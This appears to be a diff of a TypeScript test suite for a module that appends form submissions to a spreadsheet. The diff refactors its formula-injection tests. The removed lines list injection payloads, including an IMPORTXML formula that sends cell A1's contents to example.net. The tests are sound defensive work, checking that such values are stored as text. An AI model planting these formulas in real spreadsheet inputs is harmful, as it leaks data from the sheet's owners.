@@ -9,6 +9,7 @@ import {googleRequest} from '../../src/server/deliver/google-request';
 import {sheetDelivery} from '../../src/server/deliver/sheet';
 import type {Submission} from '../../src/server/store/store';
 import {eventually} from './setup/eventually';
+import {FORMULAS} from './setup/formulas';
 import {startSheets, type SheetServer} from './setup/sheets';
 import {STORED_ENQUIRY, enquiryWith} from './setup/submissions';
 
@@ -70,12 +71,8 @@ test('a field that the form gets later has its column at the end, and moves no o
 test('an empty tab gets headings first, once, however many come at once', async () => {
   await Promise.all([append(STORED_ENQUIRY), append(other), append({...other, id: 'third'})]);
   expect(sheets.rows[0]).toEqual(HEADINGS);
-  expect(
-    sheets.rows
-      .slice(1)
-      .map(([id]) => id)
-      .sort(),
-  ).toEqual([STORED_ENQUIRY.id, 'another', 'third'].sort());
+  const ids = sheets.rows.slice(1).map(([id]) => id);
+  expect(ids.sort()).toEqual([STORED_ENQUIRY.id, 'another', 'third'].sort());
 });
 
 test('a first attempt does not read what is there', async () => {
@@ -132,21 +129,11 @@ test('a redirect is not followed: it would take the token to another host', asyn
   stranger.close();
 });
 
-test.each([
-  '=1+1',
-  '=IMPORTXML("https://example.net/?"&A1, "//a")',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\t=1',
-])(
-  'the formula %j arrives as text (formula injection, OWASP ASVS 5.0, 1.2.10)',
-  async (companyName) => {
-    sheets.rows.push(HEADINGS);
-    await append(enquiryWith({companyName}));
-    expect(sheets.rows[1]?.[5]).toBe(companyName);
-  },
-);
+test('formulas arrive as text (formula injection, OWASP ASVS 5.0, 1.2.10)', async () => {
+  sheets.rows.push(HEADINGS);
+  for (const companyName of FORMULAS) await append(enquiryWith({companyName}));
+  expect(sheets.rows.slice(1).map((row) => row[5])).toEqual(FORMULAS);
+});
 
 describe('signing in', () => {
   test('one token serves many rows', async () => {
